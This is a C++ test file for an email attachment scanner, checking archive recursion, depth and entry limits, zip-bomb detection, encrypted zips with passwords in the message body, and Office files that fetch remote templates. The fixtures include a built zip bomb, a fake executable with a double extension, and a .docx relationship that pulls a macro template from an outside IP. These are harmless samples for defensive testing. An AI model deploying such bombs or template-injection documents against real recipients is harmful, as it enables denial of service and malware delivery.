// Archives: entries inspected recursively, bombs stopped, encrypted
// archives and the passwords written next to them.
#include <doctest/doctest.h>

#include <chrono>
#include <string>

#include "ai/inspect.hpp"
#include "ai/message.hpp"
#include "archive_fixtures.hpp"
#include "mail_fixtures.hpp"

using namespace ai;
using fixtures::any_attachment_has;
using fixtures::has_rule;
using fixtures::make_archive;

namespace {
std::string const fake_pe = std::string("MZ\x90\x00\x03\x00\x00\x00", 8) + std::string(200, '\0');
}

TEST_CASE("an executable inside a zip is found one level down")
{
	std::string zip = make_archive({{"readme.txt", "hello"}, {"invoice.pdf.exe", fake_pe}});
	parsed_message m =
	        parse_message(fixtures::message_with_attachment(zip, "filename=docs.zip"));
	REQUIRE(m.attachments.size() == 3);
	CHECK(m.attachments[0].filename == "docs.zip");
	CHECK(m.attachments[0].detected_type == "application/zip");
	CHECK(m.attachments[2].filename == "invoice.pdf.exe");
	CHECK(m.attachments[2].depth == 1);
	CHECK(m.attachments[2].size == fake_pe.size());
	CHECK(has_rule(m.attachments[2].findings, "attachment.executable"));
	CHECK(has_rule(m.attachments[2].findings, "attachment.double_extension"));
	CHECK(m.attachments[1].findings.empty());
}

TEST_CASE("nested archives are followed up to the depth limit")
{
	std::string inner = make_archive({{"run.js", "WScript.Echo(1)"}}, "ustar");
	std::string middle = make_archive({{"inner.tar", inner}});
	std::string outer = make_archive({{"middle.zip", middle}}, "7zip");
	parsed_message m = parse_message(fixtures::message_with_attachment(outer, "filename=a.7z"));
	REQUIRE(m.attachments.size() == 4);
	CHECK(m.attachments[3].filename == "run.js");
	CHECK(m.attachments[3].depth == 3);
	CHECK(has_rule(m.attachments[3].findings, "attachment.script"));

	parse_limits shallow;
	shallow.max_archive_depth = 2;
	parsed_message cut =
	        parse_message(fixtures::message_with_attachment(outer, "filename=a.7z"), shallow);
	CHECK(any_attachment_has(cut, "archive.depth_limit"));
	CHECK_FALSE(any_attachment_has(cut, "attachment.script"));
}

TEST_CASE("a zip bomb is a signal, found quickly")
{
	std::string zeros(64 << 20, '\0');
	std::string bomb = make_archive({{"a.bin", zeros}, {"b.bin", zeros}});
	CHECK(bomb.size() < 1 << 20);
	std::string nested_bomb = make_archive({{"bomb.zip", bomb}, {"x.zip", bomb}});
	for (std::string const *archive : {&bomb, &nested_bomb}) {
		auto start = std::chrono::steady_clock::now();
		parsed_message m = parse_message(
		        fixtures::message_with_attachment(*archive, "filename=b.zip"));
		auto seconds =
		        std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
		                .count();
		CHECK(any_attachment_has(m, "archive.bomb"));
		CHECK(seconds < 20); // bounded by the budget, even under sanitizers
	}
}

TEST_CASE("many entries stop at the entry limit")
{
	std::vector<fixtures::archive_file> files;
	for (int i = 0; i < 50; ++i)
		files.push_back({"f" + std::to_string(i) + ".txt", "x"});
	parse_limits limits;
	limits.max_archive_entries = 20;
	parsed_message m = parse_message(
	        fixtures::message_with_attachment(make_archive(files), "filename=many.zip"),
	        limits);
	CHECK(any_attachment_has(m, "archive.entry_limit"));
	CHECK(m.attachments.size() <= 21);
}

TEST_CASE("an encrypted zip whose password is in the message is opened")
{
	std::string zip = make_archive({{"請求書.exe", fake_pe}}, "zip", "Kx7-42q");
	std::string with_password = fixtures::message_with_attachment(
	        zip, "filename=seikyu.zip", "application/zip",
	        "請求書を送付します。パスワード：Kx7-42q\r\nよろしくお願いします。");
	parsed_message m = parse_message(with_password);
	REQUIRE(!m.attachments.empty());
	CHECK(has_rule(m.attachments[0].findings, "archive.encrypted"));
	CHECK(has_rule(m.attachments[0].findings, "archive.password_in_message"));
	REQUIRE(m.attachments.size() == 2);
	CHECK(m.attachments[1].filename == "請求書.exe");
	CHECK(has_rule(m.attachments[1].findings, "attachment.executable"));

	std::string without =
	        fixtures::message_with_attachment(zip, "filename=seikyu.zip", "application/zip",
	                                          "The password follows in another mail.");
	parsed_message n = parse_message(without);
	REQUIRE(n.attachments.size() == 2);
	CHECK(has_rule(n.attachments[0].findings, "archive.encrypted"));
	CHECK_FALSE(has_rule(n.attachments[0].findings, "archive.password_in_message"));
	// Zip encrypts contents, not names: the program is still seen by name.
	CHECK(n.attachments[1].filename == "請求書.exe");
	CHECK(n.attachments[1].size == 0);
	CHECK(has_rule(n.attachments[1].findings, "attachment.executable"));
}

TEST_CASE("password candidates come from the words after password keywords")
{
	auto c = password_candidates(
	        "Hello,\nPassword: sa\nThe PW is \"abc123\". パスワードは「秘密99」です");
	REQUIRE(c.size() == 3);
	CHECK(c[0] == "sa");
	CHECK(c[1] == "abc123");
	CHECK(c[2] == "秘密99");
	CHECK(password_candidates("Your passport and compass").empty());
}

TEST_CASE("a lone gzip stream and damaged archives are handled")
{
	std::string tar = make_archive({{"x.vbs", "MsgBox 1"}}, "ustar");
	parsed_message m = parse_message(fixtures::message_with_attachment(tar, "filename=x.tar"));
	CHECK(any_attachment_has(m, "attachment.script"));

	std::string zip = make_archive({{"a.txt", std::string(5000, 'a')}});
	for (std::size_t cut : {10, 100, 300}) {
		parsed_message d = parse_message(
		        fixtures::message_with_attachment(zip.substr(0, cut), "filename=d.zip"));
		CHECK(!d.attachments.empty());
	}
}

TEST_CASE("a Word document fetching a remote template is reported")
{
	std::string rels =
	        "<?xml version=\"1.0\"?><Relationships xmlns=\"x\"><Relationship Id=\"rId1\" "
	        "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	        "attachedTemplate\" Target=\"http://203.0.113.9/t.dotm\" TargetMode=\"External\"/>"
	        "</Relationships>";
	std::string docx = make_archive({{"[Content_Types].xml", "<Types/>"},
	                                 {"word/document.xml", "<w:document/>"},
	                                 {"word/_rels/settings.xml.rels", rels}});
	parsed_message m =
	        parse_message(fixtures::message_with_attachment(docx, "filename=cv.docx"));
	REQUIRE(m.attachments.size() == 1);
	CHECK(has_rule(m.attachments[0].findings, "office.external_relationship"));
	CHECK(m.attachments[0].urls.empty());
}
